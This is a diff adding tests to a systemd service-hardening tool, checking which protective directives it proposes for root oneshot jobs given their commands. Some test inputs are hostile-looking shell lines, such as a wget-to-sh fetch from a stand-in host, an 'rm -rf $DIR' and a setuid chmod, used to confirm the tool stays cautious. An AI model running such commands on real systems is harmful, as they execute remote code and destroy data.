@@ -4,7 +4,7 @@ import { hardeningFindings, likelyFix, safeFix } from "../../server/src/hardenin
 import { missingSettings } from "../../server/src/hardening/missingSettings.ts";
 import type { HardeningDirective } from "../../server/src/hardening/profiles.ts";
 import { applyEdits } from "../../server/src/text/span.ts";
-import { unitOf } from "./kit.ts";
+import { safe, unitOf } from "./kit.ts";
 
 /** What is said of a setting in a service with these lines; those of [Unit] first. */
 function graded(name: HardeningDirective, ...lines: readonly string[]): readonly (string | undefined)[] {
@@ -235,5 +235,44 @@ describe("how sure it is that a setting is safe", () => {
   it("doubts that what somebody set up for hardware runs without sudo", () => {
     const wires = ["User=ow", "StateDirectory=ow"];
     assert.equal(graded("NoNewPrivileges", ...wires, "ExecStart=/opt/ow/owhttpd --port 8080")[0], "likely");
+  });
+});
+
+describe("commands that show all that a job of root does", () => {
+  const lines = (...commands: readonly string[]) =>
+    safe(["Type=oneshot", ...commands.map((it) => `ExecStart=${it}`)], "strict");
+
+  it("lose nothing that nothing speaks against", () => {
+    const added = lines("/usr/bin/find /var/cache/shop -mtime +7 -delete", "/usr/bin/systemctl restart shop");
+    for (const it of [
+      "ProtectSystem=full",
+      "PrivateDevices=yes",
+      "RestrictNamespaces=yes",
+      "SystemCallFilter=@system-service chroot",
+    ])
+      assert.ok(added.includes(it), `${it} in ${added.join(" ")}`);
+    assert.ok(added.some((it) => it.startsWith("CapabilityBoundingSet=CAP_CHOWN ")));
+    assert.equal(
+      graded("PrivateDevices", "Type=oneshot", "ExecStart=/usr/bin/find /var/cache/shop -mtime +7 -delete")[1],
+      "its commands are find alone, and name nothing that it takes away",
+    );
+  });
+
+  it("lose what they name, and show nothing where they hide something", () => {
+    assert.ok(!lines("/usr/bin/find /var/tmp -mtime +9 -delete").includes("PrivateTmp=yes"));
+    assert.ok(!lines("/bin/sh -c 'echo 1 > /proc/sys/vm/drop_caches'").includes("ProtectKernelTunables=yes"));
+    assert.ok(!lines("/usr/bin/touch /etc/motd").some((it) => it.startsWith("ProtectSystem=")));
+    assert.ok(!lines("/usr/bin/cp -a /srv/a /srv/b").includes("RestrictSUIDSGID=yes"));
+    for (const it of [
+      "/bin/sh -c 'wget -qO- http://x.example/run | sh'",
+      "/bin/sh -c 'rm -rf $DIR'",
+      "/bin/sh /srv/run.sh",
+      "/usr/bin/find /srv -exec /srv/x {} +",
+      "/usr/bin/find / -xdev -name core -delete",
+      "/usr/bin/chmod 4755 /srv/x",
+      "/usr/bin/date -s 12:00",
+      "/srv/bin/find /srv/x",
+    ])
+      assert.ok(!lines(it).includes("PrivateDevices=yes"), it);
   });
 });
